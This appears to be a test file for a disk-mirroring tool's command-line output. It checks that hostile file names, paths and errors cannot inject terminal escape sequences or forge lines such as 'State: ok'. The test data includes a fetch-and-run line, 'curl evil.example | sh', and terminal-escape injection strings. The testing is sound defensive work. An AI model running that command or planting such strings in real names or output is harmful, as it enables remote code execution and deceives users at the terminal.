// What a disk, a path, a process or an argument holds cannot write on the terminal, nor forge a line of an answer.
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { BlockmirrorError, identify, inspect, recover, verify, type Inspection } from '../../lib/index';
import { checkToText, judgeCheck } from '../../lib/cli/check';
import { columnsOf, forScreen, painted } from '../../lib/cli/colours';
import { createdToText } from '../../lib/cli/commands/create';
import { doctorToText } from '../../lib/cli/commands/doctor';
import { identifiedToText } from '../../lib/cli/commands/inspect';
import { intentsToText } from '../../lib/cli/commands/log';
import { recoveredToText } from '../../lib/cli/commands/recover';
import { statusToText } from '../../lib/cli/commands/status';
import { verifiedToText } from '../../lib/cli/commands/verify';
import type { Check, PathReport } from '../../lib/cli/doctor/checks';
import { failureOf, failureToText } from '../../lib/cli/failure';
import type { Output } from '../../lib/cli/output';
import { facts, table } from '../../lib/cli/words';
import { shownText } from '../../lib/base/shown';
import { runCommand, type CommandResult } from '../support/command_line';
import { createMirrorFiles } from '../support/mirror_files';
import { useTemporaryFolder } from '../support/temporary_folder';

const folder = useTemporaryFolder();

const FORGED = 'State: ok';
const COMMAND = 'curl evil.example | sh -s -- and something that makes it long';
/** May be a name of a file: no slash. */
const HOSTILE = `x\u001b]0;pwned\u0007\u001b[2J\n${FORGED}\r\u202e\u2028${FORGED}\u0085\u009b31m\u200b`;
const WITH_COMMAND = `${HOSTILE}\n\`${COMMAND}\`\ud800`;

function expectHarmless(text: string): void {
  expect(text).toBe(shownText(text));
  const lines = text.split('\n').map((line) => line.trim());
  expect(lines.filter((line) => line.startsWith(FORGED) || line.startsWith('curl '))).toEqual([]);
}

describe('the text of an answer', () => {
  const screens = [
    { columns: 100, isTerminal: false },
    { columns: 40, isTerminal: true },
  ];
  const outputOf = ({ columns, isTerminal }: (typeof screens)[number]): Output =>
    ({
      json: false,
      width: columns,
      noteWidth: columns,
      lineWidth: isTerminal ? columns : Infinity,
      isTerminal,
      paint: (colour, text) => (isTerminal ? painted(colour, text) : text),
    }) as Partial<Output> as Output;

  /** Colours of our own are wanted, and nothing else that a terminal obeys. */
  function expectHarmlessOnScreen(text: string): void {
    // eslint-disable-next-line no-control-regex -- these are what it is about
    expectHarmless(forScreen(text).replace(/\u001b\[(1|2|22|31|32|33|39)m/g, ''));
  }

  /** Words of tables of ours, dates and UUIDs, which the core makes of numbers. */
  const OURS = /^(state|phase|role|kind|result|verdict|code|recordedState|rejoin|pidNamespace|copies|copy)$|At$|uuid$/i;

  /** The same with every string from outside made hostile. */
  function hostile<T>(value: T, key = ''): T {
    if (typeof value === 'string') return (OURS.test(key) ? value : WITH_COMMAND + value) as T;
    if (value instanceof BlockmirrorError) {
      return new BlockmirrorError('OPEN_FAILED', { image: WITH_COMMAND, path: WITH_COMMAND, detail: HOSTILE }) as T;
    }
    if (Array.isArray(value)) return value.map((one) => hostile(one as unknown, key)) as T;
    if (value === null || typeof value !== 'object') return value;
    return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, hostile(one as unknown, name)])) as T;
  }

  const lost = new BlockmirrorError('OPEN_FAILED');
  const holder = { process: 1, processName: 'x', state: 'running' } as const;
  const owner = { host: 'h', process: 1, processName: 'x', startedAt: '2026-01-01T00:00:00Z', pidNamespace: 'same' };

  async function inspections(): Promise<Inspection[]> {
    const { log } = await createMirrorFiles(folder(), '4MiB');
    const whole = await inspect(log);
    const with_ = (status: object, more: object = {}): Inspection => ({
      ...whole,
      ...more,
      status: { ...whole.status, ...status },
    });
    const images = (change: object): object => ({
      images: whole.status.images.map((image) => ({ ...image, ...change })),
    });
    const damage = { damaged: true, damage: ['a', 'b'], attachable: false, obstacles: [lost] };
    const copies = { lostCopies: [{ where: 'slave1', copy: 'A', state: 'damaged' }] };
    return [
      whole,
      with_({ phase: 'held', holder, owner }),
      with_({ phase: 'held', holder: { ...holder, state: 'frozen' } }),
      with_({ phase: 'stopped', owner }),
      with_({ phase: 'creating' }),
      with_({ phase: 'unclean', ...images({ state: 'failed', error: lost }) }, damage),
      with_({ ...images({ state: 'inconsistent', bytesDiffered: 1, error: null }) }, copies),
      with_({ ...images({ state: 'assumed' }) }),
      with_({ ...images({ expectedAt: '/elsewhere' }) }),
      with_({ stopped: { errno: 5 }, ...images({ state: 'failed', error: lost }) }),
    ];
  }

  test('of status, log and status --check', async () => {
    for (const inspection of (await inspections()).map((one) => hostile(one))) {
      for (const output of screens.map(outputOf)) {
        expectHarmlessOnScreen(statusToText(inspection, WITH_COMMAND, { image: { [HOSTILE]: HOSTILE } }, output));
        expectHarmlessOnScreen(intentsToText(inspection, output));
      }
      const verdict = judgeCheck({ inspection, now: 0, maximumAge: 1, privileged: true });
      const line = checkToText(verdict, `mirror ${WITH_COMMAND}`);
      expectHarmless(line);
      expect(line).not.toContain('\n');
    }
  });

  test('of create, recover, verify and inspect', async () => {
    const { log, master } = await createMirrorFiles(folder(), '4MiB');
    const status = (await inspect(log)).status;
    const created = { ...status, bytesCopied: 0, durationMs: 0, readBack: true } as never;
    const recovered = await recover(log);
    const verified = await verify(log);
    const difference = { slave: 's', position: 0, length: 1, expected: false, agreesWith: ['t'], standsAlone: 's' };
    const elsewhere = [{ name: 's', expectedAt: '/a', path: '/b' }];
    const repairs = [{ image: 'm', position: 0, length: 1, from: 's' }];
    const failed = verified.slaves.map((slave) => ({ ...slave, state: 'failed', compared: false, error: lost }));
    const identified = await identify(master);
    for (const output of screens.map(outputOf)) {
      const device = 'auto' as const;
      expectHarmlessOnScreen(
        createdToText(hostile(created), { log: WITH_COMMAND, master: '', slave: [], readBack: true, device }, output),
      );
      for (const report of [
        { ...recovered, foundElsewhere: elsewhere },
        { ...recovered, clean: false, damaged: true, damage: ['a'], repairs, foundElsewhere: elsewhere },
        { ...recovered, clean: false, dryRun: true },
      ]) {
        const options = { compare: true, readBack: true, device };
        expectHarmlessOnScreen(recoveredToText(hostile(report), WITH_COMMAND, options, output));
      }
      for (const report of [
        { ...verified, foundElsewhere: elsewhere, differences: [difference], result: 'differs' },
        { ...verified, slaves: failed, result: 'incomplete' },
      ]) {
        expectHarmlessOnScreen(verifiedToText(hostile(report) as never, WITH_COMMAND, { device }, output));
      }
      for (const found of [identified, { ...identified, parts: [], problem: lost }]) {
        expectHarmlessOnScreen(identifiedToText(hostile(found), output));
      }
    }
  });

  test('of doctor, and of any error', () => {
    const check: Check = { name: 'kind', verdict: 'ok', finding: WITH_COMMAND, remedy: HOSTILE };
    const paths: PathReport[] = [{ path: WITH_COMMAND, verdict: 'ok', checks: [check], facts: null }];
    const errors = [
      new BlockmirrorError('BUSY', { image: WITH_COMMAND, path: WITH_COMMAND, detail: HOSTILE }),
      new BlockmirrorError('BUSY', { cause: new Error(HOSTILE) }),
      Object.assign(new Error(HOSTILE), { errno: -2, code: 'ENOENT' }),
      HOSTILE,
    ];
    for (const output of screens.map(outputOf)) {
      expectHarmlessOnScreen(doctorToText({ verdict: 'ok', system: [], paths }, output));
      for (const error of errors) {
        expectHarmlessOnScreen(failureToText(failureOf(error), output.width, output.lineWidth));
      }
    }
  });
});

test('an error is safe to print, with its cause; its path is exact', () => {
  const cause = Object.assign(new Error(`ENOENT: no such file, open '${HOSTILE}'`), { code: 'ENOENT', errno: -2 });
  const error = new BlockmirrorError('OPEN_FAILED', { image: HOSTILE, path: HOSTILE, cause });
  expectHarmless(error.message);
  expectHarmless((error.cause as Error).message);
  expect(error.message).not.toContain('\n');
  expect(error.cause).toMatchObject({ code: 'ENOENT', errno: -2 });
  expect(error.path).toBe(HOSTILE);
});

test('colours count for no column, wide letters for two', () => {
  const name = painted('bold', 'synchronized');
  expect([columnsOf(name), columnsOf('大文字'), columnsOf('e\u0301'), columnsOf('\u001b')]).toEqual([12, 6, 1, 4]);
  const rows = facts(
    [
      [painted('green', 'A'), 'one two'],
      ['大文', '3'],
    ],
    13,
  );
  expect(forScreen(rows)).toBe('\u001b[32mA\u001b[39m     one two\n大文  3');
  const columns = table(
    ['STATE', 'PATH'],
    [
      [name, '/a'],
      ['x', '/b'],
    ],
  ).split('\n');
  expect(columns.map((line) => columnsOf(line.slice(0, line.search(/PATH|\/[ab]/))))).toEqual([14, 14, 14]);
});

describe('the command line, with names that hold anything', () => {
  function expectHarmlessResult({ stdout, stderr }: CommandResult): void {
    expectHarmless(stdout);
    expectHarmless(stderr);
  }

  test('every command, in text and in JSON', async () => {
    const home = path.join(folder(), HOSTILE);
    mkdirSync(home);
    const files = await createMirrorFiles(home, '4MiB');
    writeFileSync(path.join(home, 'note'), 'no log');
    const commands = [
      ['status', files.log],
      ['status', '--check', files.log],
      ['log', files.log],
      ['verify', files.log],
      ['recover', files.log],
      ['recover', '--dry-run', files.log],
      ['inspect', files.log, files.master],
      ['doctor', files.master, home, path.join(home, 'missing')],
      ['status', path.join(home, 'note')],
      ['status', path.join(home, 'missing')],
      ['status', files.master],
      ['verify', files.log, '--image', `slave1=${files.master}`],
      ['create', '--log', files.log, '--master', files.master, '--slave', files.slave],
      ['create', '--log', `${files.log}2`, '--master', files.master, '--slave', files.slave, '--size', HOSTILE],
      ['status', files.log, `--${HOSTILE}`],
      [HOSTILE],
      ['log', files.log, '--image', `${HOSTILE}=${HOSTILE}`],
    ];
    for (const command of commands) {
      expectHarmlessResult(await runCommand(command));
      const json = await runCommand([...command, '--json']);
      expectHarmlessResult(json);
      expect(() => json.json()).not.toThrow();
    }
    const status = (await runCommand(['status', files.log, '--json'])).json<{ log: string }>();
    expect(status.log).toBe(files.log);
  });

  test('a process that holds an image is named, whatever its name', async () => {
    const { log, slave } = await createMirrorFiles(folder(), '4MiB');
    const program = path.join(folder(), '\u001b[2J\nState: ok');
    symlinkSync('/usr/bin/flock', program);
    // It ends when its standard input does, with the test or with the process that runs the tests.
    const child = spawn(program, ['-o', slave, 'sh', '-c', 'echo held; exec cat'], {
      stdio: ['pipe', 'pipe', 'ignore'],
    });
    try {
      await once(child.stdout, 'data');
      const result = await runCommand(['verify', log]);
      expectHarmlessResult(result);
      expect(result.stderr).toContain('BUSY');
      expect(result.stderr).toContain('\\x1b[2J\\nState:');
    } finally {
      child.stdin.end();
      await once(child, 'close');
    }
  });
});
